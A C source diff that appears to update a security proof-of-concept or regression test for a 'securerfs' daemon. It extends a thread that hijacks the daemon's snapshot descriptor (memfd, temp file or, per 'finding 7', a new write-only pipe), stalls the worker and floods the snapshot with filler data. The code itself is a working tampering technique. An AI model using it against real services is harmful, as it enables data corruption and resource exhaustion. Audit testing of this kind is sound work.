@@ -104,20 +104,25 @@ static int hijack_mib;
 static volatile int hijack_done_mib = -1;
 
 /* Find the descriptor the daemon passes with a snapshot frame (a memfd, or
- * state_dir's .NAME.snap.tmp), keep a copy, point the worker's own number
- * at a pipe (its writes then wait), write hijack_mib MiB into the copy,
- * then let the worker go on (drain the pipe). */
+ * state_dir's .NAME.snap.tmp; since finding 7 the pipe the daemon copies
+ * from: the first write-only pipe that was not there when this started),
+ * keep a copy, point the worker's own number at a pipe (its writes then
+ * wait), write hijack_mib MiB into the copy, then let the worker go on
+ * (drain the pipe). */
 static void *hijack_thread(void *arg) {
-        char buf[1 << 16];
-        int n = -1, copy, p[2];
+        char buf[1 << 16], seen[1024] = {0};
+        int n = -1, copy, p[2], pipe_end = 0;
 
         signal(SIGXFSZ, SIG_IGN);
+        for (int fd = 0; fd < 1024; fd++)
+                seen[fd] = fcntl(fd, F_GETFD) >= 0;
         for (int i = 0; i < 60000 && n < 0; i++) {
                 DIR *d = opendir("/proc/self/fd");
                 struct dirent *de;
 
                 while (d && (de = readdir(d))) {
                         char path[300], link[300];
+                        int fd = atoi(de->d_name);
                         ssize_t len;
 
                         snprintf(path, sizeof(path), "/proc/self/fd/%s", de->d_name);
@@ -126,7 +131,13 @@ static void *hijack_thread(void *arg) {
                                 continue;
                         link[len] = '\0';
                         if (strstr(link, "memfd:securerfs-snapshot") || strstr(link, ".snap.tmp")) {
-                                n = atoi(de->d_name);
+                                n = fd;
+                                break;
+                        }
+                        if (fd < 1024 && !seen[fd] && !strncmp(link, "pipe:", 5) &&
+                            (fcntl(fd, F_GETFL) & O_ACCMODE) == O_WRONLY) {
+                                n = fd;
+                                pipe_end = 1;
                                 break;
                         }
                 }
@@ -137,15 +148,19 @@ static void *hijack_thread(void *arg) {
         }
         if (n < 0 || (copy = dup(n)) < 0 || pipe(p) < 0)
                 return arg;
+        if (pipe_end)
+                signal(SIGPIPE, SIG_IGN);
         dup2(p[1], n);
         close(p[1]);
         memset(buf, 'x', sizeof(buf));
         {
-                off_t off = lseek(copy, 0, SEEK_CUR);
+                off_t off = pipe_end ? 0 : lseek(copy, 0, SEEK_CUR);
                 long long done = 0;
 
                 for (long long left = (long long)hijack_mib << 20; left > 0; left -= (long long)sizeof(buf)) {
-                        if (pwrite(copy, buf, sizeof(buf), off + done) != (ssize_t)sizeof(buf))
+                        ssize_t w = pipe_end ? write(copy, buf, sizeof(buf)) : pwrite(copy, buf, sizeof(buf), off + done);
+
+                        if (w != (ssize_t)sizeof(buf))
                                 break;
                         done += (long long)sizeof(buf);
                 }
